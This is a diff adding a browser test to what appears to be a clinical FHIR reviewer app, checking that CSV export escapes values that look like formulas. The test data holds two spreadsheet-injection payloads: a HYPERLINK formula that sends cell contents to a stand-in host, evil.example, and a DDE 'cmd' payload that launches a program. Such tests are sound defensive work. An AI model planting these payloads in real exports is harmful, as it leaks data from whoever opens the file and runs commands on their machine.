@@ -83,6 +83,33 @@ describe.skipIf(!browserAvailable && !browserRequired)('reviewer app and demo in
     await page.close();
   });
 
+  it('exports FHIR values that look like formulas as text (=HYPERLINK, +cmd|), as the CLI does', async () => {
+    // An EHR record whose fractions name their encounter with references the service cannot resolve: the session
+    // keeps the reference as written, and it reaches the CSV's encounter column.
+    const HOSTILE: Record<string, string> = {
+      'a2-fx-1': '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
+      'a2-fx-2': "+cmd|' /C calc'!A0",
+    };
+    const page = await newPage();
+    await page.route(/\/fhir\/Procedure\?/, async (route) => {
+      const response = await route.fetch();
+      const bundle = (await response.json()) as { entry?: { resource: { id: string; encounter?: { reference: string } } }[] };
+      for (const { resource } of bundle.entry ?? []) {
+        const reference = HOSTILE[resource.id];
+        if (reference && resource.encounter) resource.encounter.reference = reference;
+      }
+      await route.fulfill({ response, json: bundle });
+    });
+    await launchFromDemo(page, 'a2-pat-acro-2-prostate-imrt-stereoscopic');
+    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#export-csv').click()]);
+    const rows = parseCsv(await readFile((await download.path())!, 'utf8'));
+    const encounters = rows.slice(1).map((row) => row[1]);
+    expect(encounters).toEqual(expect.arrayContaining([`'${HOSTILE['a2-fx-1']}`, `'${HOSTILE['a2-fx-2']}`]));
+    // No cell a spreadsheet would run.
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    await page.close();
+  });
+
   it("the demo sends encounter-discharge, renders the cards, and a card's smart link opens the app on that session", async () => {
     const page = await newPage();
     await page.goto(`${demo.service.url}/demo`);
@@ -206,3 +233,18 @@ describe.skipIf(!browserAvailable && !browserRequired)('npm start with no config
     await page.close();
   });
 });
+
+/** RFC 4180 CSV as rows of cells (quoted fields, "" inside them, CRLF or LF between rows). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
+    row.push(quoted !== undefined ? quoted.replace(/""/g, '"') : (plain ?? ''));
+    if (end !== ',') {
+      rows.push(row);
+      row = [];
+      if (end === '') break;
+    }
+  }
+  return rows.filter((r) => r.some((cell) => cell !== ''));
+}
